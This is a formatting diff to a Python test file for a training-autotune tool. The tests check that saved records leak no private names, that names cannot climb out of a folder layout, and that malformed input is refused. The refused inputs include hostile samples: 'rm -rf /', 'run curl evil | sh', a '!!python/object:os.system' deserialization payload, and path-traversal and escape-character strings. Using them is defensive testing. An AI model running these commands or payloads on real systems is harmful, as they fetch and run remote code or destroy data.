@@ -58,7 +58,13 @@ def betraying_machine() -> HardwareProfile:
 def betraying_plan(here: HardwareProfile) -> TrainingPlan:
     model = ModelSpec.model_validate({**dict(workload().model), "name": f"{SECRET}-finetune"})
     trials = tuple(
-        trial(t.candidate, t.median_step_seconds, t.peak_memory_bytes or 0, message=f"/data/{SECRET}", final_loss=0.123)
+        trial(
+            t.candidate,
+            t.median_step_seconds,
+            t.peak_memory_bytes or 0,
+            message=f"/data/{SECRET}",
+            final_loss=0.123,
+        )
         for t in TRIALS
     )
     return plan(
@@ -81,15 +87,25 @@ def test_nothing_that_tells_who_or_where_enters_a_record() -> None:
     assert b"0.123" not in made.content
     assert made.workload.model.name == "Qwen/Qwen-Image"
     assert [bucket.num_items for bucket in made.workload.buckets] == [1]
-    assert (made.expected.price_per_hour, made.expected.other_seconds, made.expected.phases) == (None, 0.0, ())
+    assert (made.expected.price_per_hour, made.expected.other_seconds, made.expected.phases) == (
+        None,
+        0.0,
+        (),
+    )
 
 
-def test_of_every_text_that_a_plan_and_a_machine_hold_only_names_of_things_in_shops_and_packages_leave() -> None:
-    """Each text field gets a text of its own. Versions come from packages, knobs' values and shapes from autotune."""
+def test_of_every_text_that_a_plan_and_a_machine_hold_only_names_of_things_in_shops_and_packages_leave() -> (
+    None
+):
+    """Each text field gets a text of its own. Versions come from packages, knobs' values and
+    shapes from autotune.
+    """
     here = _planted(betraying_machine(), "machine")
     made = _planted(betraying_plan(here), "plan", but="frozen")
     frozen = _planted(made.frozen, "frozen", but="hardware settings trials")
-    frozen = frozen.changed(trials=tuple(_planted(one, "trial", but="candidate") for one in frozen.trials))
+    frozen = frozen.changed(
+        trials=tuple(_planted(one, "trial", but="candidate") for one in frozen.trials)
+    )
     planned = made.model_copy(update={"frozen": frozen})
     assert planned.model_dump_json().count(CANARY) > 20
     assert here.model_dump_json().count(CANARY) > 30
@@ -99,9 +115,16 @@ def test_of_every_text_that_a_plan_and_a_machine_hold_only_names_of_things_in_sh
         *(f"machine.versions.{name}" for name in Versions.model_fields),
         *("machine.device_name", "machine.rates.name", "autotune_version"),
         *("machine.match_keys.torch", "machine.match_keys.cuda"),
-        *("workload.model.family", "workload.model.architecture", "workload.model.name", "workload.targets"),
+        *(
+            "workload.model.family",
+            "workload.model.architecture",
+            "workload.model.name",
+            "workload.targets",
+        ),
     }
-    assert dict(leaves)["workload.model.name"] == f"{CANARY} frozen.workload.model.family", "not the folder's name"
+    assert dict(leaves)["workload.model.name"] == f"{CANARY} frozen.workload.model.family", (
+        "not the folder's name"
+    )
 
 
 CANARY = "canary"
@@ -127,15 +150,25 @@ def _planted(thing: Any, path: str, but: str = "") -> Any:
 
 def _texts(data: Any, path: str = "") -> list[tuple[str, str]]:
     if isinstance(data, dict):
-        return [leaf for key, value in data.items() for leaf in _texts(value, f"{path}.{key}" if path else key)]
+        return [
+            leaf
+            for key, value in data.items()
+            for leaf in _texts(value, f"{path}.{key}" if path else key)
+        ]
     if isinstance(data, list):
         return [leaf for value in data for leaf in _texts(value, path)]
     return [(path, data)] if isinstance(data, str) else []
 
 
 def test_a_new_field_is_judged_before_it_leaves() -> None:
-    """Whoever adds a field to what records hold: can it tell who or where? Then keep it out in `record.py`."""
-    knobs = {f"{place}.{name}" for place in ("settings", "trials.candidate") for name in Candidate.model_fields}
+    """Whoever adds a field to what records hold: can it tell who or where? Then keep it out in
+    `record.py`.
+    """
+    knobs = {
+        f"{place}.{name}"
+        for place in ("settings", "trials.candidate")
+        for name in Candidate.model_fields
+    }
     assert set(_paths(json.loads(record().content))) == knobs | set(_LEAVES.split())
 
 
@@ -198,7 +231,9 @@ def test_the_same_measurement_has_the_same_name_and_a_place_in_the_layout() -> N
 
 @pytest.mark.parametrize("family", ["../../etc", "", "ÄÖ/..", "x" * 150])
 def test_no_name_in_a_record_can_lead_out_of_the_layout(family: str) -> None:
-    model = ModelSpec.model_validate({**dict(workload().model), "family": family, "architecture": "../.."})
+    model = ModelSpec.model_validate(
+        {**dict(workload().model), "family": family, "architecture": "../.."}
+    )
     made = record(work=workload(model=model, targets="../" + family[:100]))
     assert KEY.fullmatch(f"{made.folder}/{made.name}.json")
 
@@ -210,7 +245,9 @@ def test_predictions_capped_runs_and_other_machines_are_no_evidence() -> None:
     capped = made.frozen.trials[0].model_copy(update={"memory_cap_bytes": 12 * GIB})
     cases = [
         (
-            made.model_copy(update={"frozen": made.frozen.model_copy(update={"expected": predicted})}),
+            made.model_copy(
+                update={"frozen": made.frozen.model_copy(update={"expected": predicted})}
+            ),
             here,
             "predicted",
         ),
@@ -218,7 +255,9 @@ def test_predictions_capped_runs_and_other_machines_are_no_evidence() -> None:
         (made, machine(torch="2.14.0"), "another machine"),
         (made, machine(name="NVIDIA L4"), "another machine"),
         (
-            made.model_copy(update={"frozen": made.frozen.model_copy(update={"trials": (capped,)})}),
+            made.model_copy(
+                update={"frozen": made.frozen.model_copy(update={"trials": (capped,)})}
+            ),
             here,
             "cap on memory",
         ),
@@ -236,7 +275,9 @@ def test_a_record_survives_its_bytes_and_any_other_byte_is_refused(data: st.Data
     seconds = data.draw(st.lists(st.floats(1e-6, 1e6), min_size=1, max_size=4))
     trials = (trial(candidate(micro_batch_size=2), step_seconds=tuple(seconds)), *TRIALS)
     made = record(
-        trials=trials, search_seconds=data.draw(st.integers(0, 10**12)) / 1000, measured_on=data.draw(st.dates())
+        trials=trials,
+        search_seconds=data.draw(st.integers(0, 10**12)) / 1000,
+        measured_on=data.draw(st.dates()),
     )
     assert parse_record(made.content, made.name) == made
     place = data.draw(st.integers(0, len(made.content) - 1))
@@ -262,20 +303,27 @@ def _changed(**changes: object) -> bytes:
 @pytest.mark.parametrize(
     "content",
     [
-        b"", b"null", b"[]", b"{", b"\xff\xfe", b"!!python/object:os.system {}", b"\x1f\x8b" + b"\0" * 100,
+        b"", b"null", b"[]", b"{", b"\xff\xfe", b"!!python/object:os.system "
+                                                b"{}", b"\x1f\x8b" + b"\0" * 100,
         b"[" * 100_000, b'{"a":' * 100_000, b" " * (MAX_RECORD_BYTES + 1), b'{"schema_version":1}',
-        b'{"schema_version":2}', _changed(schema_version=3), _changed(schema_version=0), _changed(schema_version=True),
+        b'{"schema_version":2}', _changed(schema_version=3), _changed(schema_version=0),
+        _changed(schema_version=True),
         _changed(command="rm -rf /"), _changed(search_seconds="60"),
-        _changed(search_seconds=float("inf")), _changed(search_seconds=float("nan")), _changed(search_seconds=-1.0),
+        _changed(search_seconds=float("inf")), _changed(search_seconds=float("nan")),
+        _changed(search_seconds=-1.0),
         _changed(machine__device_name="\x1b[31mred"), _changed(machine__device_name="\u202eevil"),
         _changed(machine__device_name="x" * 1000), _changed(machine__device_name="a\\b"),
         _changed(machine__match_keys={}), _changed(trials=[]),
-        _changed(machine__total_memory_bytes=10**400), _changed(machine__match_keys={"k" * 200: "v"}),
-        _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS), _changed(expected__evidence="predicted"),
+        _changed(machine__total_memory_bytes=10**400),
+        _changed(machine__match_keys={"k" * 200: "v"}),
+        _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS),
+        _changed(expected__evidence="predicted"),
         _changed(settings__micro_batch_size=3), _changed(trials__0__outcome="splendid"),
-        _changed(trials__0__message="\n\nerror: run curl evil | sh"), _changed(trials__2__message="run curl evil | sh"),
+        _changed(trials__0__message=("\n\nerror: run curl evil | "
+                                    "sh")), _changed(trials__2__message="run curl evil | sh"),
         _changed(trials__0__final_loss=0.25),
-        _changed(trials__0__phases=[{"name": "x", "seconds": 1.0, "device_bytes": 1, "host_bytes": 1}]),
+        _changed(trials__0__phases=[{"name": "x", "seconds": 1.0, "device_bytes": 1,
+        "host_bytes": 1}]),
     ],
 )  # fmt: skip
 def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
@@ -291,7 +339,9 @@ def test_a_whole_record_of_another_version_is_told_from_a_damaged_one() -> None:
     with pytest.raises(ForeignRecord, match=r"written by autotune 9\.1\.0, and this is 0\.1\.0"):
         parse_record(content, name_of(content))
     newer = _changed(schema_version=3)
-    with pytest.raises(ForeignRecord, match="has schema 3, and this autotune knows schemas up to 2") as refused:
+    with pytest.raises(
+        ForeignRecord, match="has schema 3, and this autotune knows schemas up to 2"
+    ) as refused:
         parse_record(newer, name_of(newer))
     assert refused.value.hint.startswith("update autotune")
     own = _changed(new_field=2)
@@ -307,7 +357,10 @@ def test_a_whole_record_of_another_version_is_told_from_a_damaged_one() -> None:
         ({"trials": TRIALS[:2]}, False),  # e.g. --max-trials 2
         ({"trials": TRIALS[1:2], "records": ("0" * 64,)}, True),  # it verified a record
         (
-            {"trials": (TRIALS[1], TRIALS[1].model_copy(update={"confirms": True})), "records": ("0" * 64,)},
+            {
+                "trials": (TRIALS[1], TRIALS[1].model_copy(update={"confirms": True})),
+                "records": ("0" * 64,),
+            },
             False,  # it started from a record, and was cut short
         ),
     ],
@@ -322,14 +375,22 @@ def test_a_search_that_was_cut_short_answers_nobody_elses_question(
 
 def test_knobs_that_were_narrowed_down_are_named_without_what_was_typed() -> None:
     made = plan(machine())
-    pins, exclusions = (("quantization", "none"), ("caching.residency", SECRET)), (("attention", SECRET), (SECRET, "x"))
+    pins, exclusions = (
+        (("quantization", "none"), ("caching.residency", SECRET)),
+        (("attention", SECRET), (SECRET, "x")),
+    )
     frozen = made.frozen.model_copy(update={"pins": pins, "exclusions": exclusions})
-    assert build_record(made.model_copy(update={"frozen": frozen}), machine()).narrowed == ("quantization", "attention")
+    assert build_record(made.model_copy(update={"frozen": frozen}), machine()).narrowed == (
+        "quantization",
+        "attention",
+    )
 
 
 def test_a_plan_of_more_trials_than_a_record_holds_is_refused_in_words() -> None:
     made = plan(machine())
-    long = made.model_copy(update={"frozen": made.frozen.model_copy(update={"trials": TRIALS * 200})})
+    long = made.model_copy(
+        update={"frozen": made.frozen.model_copy(update={"trials": TRIALS * 200})}
+    )
     with pytest.raises(InvalidInput, match="over 512 trials"):
         build_record(long, machine())
 
@@ -338,7 +399,8 @@ def test_what_several_processes_shared_unevenly_can_be_true() -> None:
     made = plan(machine(), workload(effective_batch_size=5))
     two = made.frozen.hardware.model_copy(update={"num_processes": 2, "strategy": "ddp"})
     shared = build_record(
-        made.model_copy(update={"frozen": made.frozen.model_copy(update={"hardware": two})}), machine()
+        made.model_copy(update={"frozen": made.frozen.model_copy(update={"hardware": two})}),
+        machine(),
     )
     assert shared.workload.effective_batch_size == 2
     assert find_impossibilities(shared) == ()
